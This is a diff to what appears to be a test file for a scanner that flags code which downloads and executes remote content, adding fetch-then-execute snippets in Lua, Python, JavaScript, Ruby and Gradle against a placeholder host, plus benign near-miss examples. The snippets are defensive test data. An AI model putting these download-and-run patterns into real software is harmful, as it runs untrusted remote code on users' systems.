@@ -248,6 +248,14 @@ FETCHED_AND_RUN = [
         "A.java",
         'Files.copy(new URL("https://c.invalid/u").openStream(), Path.of("/tmp/u"));\nRuntime.getRuntime().exec("/tmp/u");',
     ),
+    ("a.lua", 'local h = io.popen("curl -s https://c.invalid/u")\nlocal s = h:read("*a")\nos.execute(s)'),
+    ("a.py", "import os, subprocess\ns = subprocess.getoutput('curl -s https://c.invalid/u')\nos.system(s)"),
+    (
+        "a.js",
+        "const c = require('child_process');\nconst s = c.execSync('curl -s https://c.invalid/u').toString();\nc.execSync(s);",
+    ),
+    ("a.rb", "require 'open-uri'\nKernel.public_send(name, URI.open('https://c.invalid/u').read)"),
+    ("build.gradle", "def t = new URL('https://c.invalid/u.groovy').text\nnew GroovyShell().evaluate(t)"),
     ("a.pl", 'use LWP::Simple;\nmy $c = get("https://c.invalid/u");\neval $c;'),
     (
         "a.pl",
@@ -276,6 +284,9 @@ NOT_RUN = [
     ("a.rs", 'let b = reqwest::blocking::get("https://c.invalid/u").unwrap();\nstd::fs::write("data.json", &b);\nCommand::new("git").arg("status").spawn();'),
     ("a.lua", 'local http = require("socket.http")\nprint(http.request("https://c.invalid/u"))\nos.execute("ls")'),
     ("a.py", "import subprocess\nsubprocess.run('curl -o data.json https://c.invalid/u && wc -l data.json', shell=True)"),
+    ("a.lua", 'local h = io.popen("curl -s https://c.invalid/u")\nprint(h:read("*a"))\nos.execute("ls")'),
+    ("a.py", "import os, subprocess\ns = subprocess.getoutput('curl -s https://c.invalid/ip')\nos.system(f'ping {s}')"),
+    ("a.rb", "require 'open-uri'\nputs URI.open('https://c.invalid/u').read\nReport.public_send(name, 1)"),
     ("a.java", 'var in = new URL("https://c.invalid/u").openStream();\nRuntime.getRuntime().exec("git status");'),
     ("a.applescript", 'display dialog "Your name?" default answer ""'),
 ]  # fmt: skip
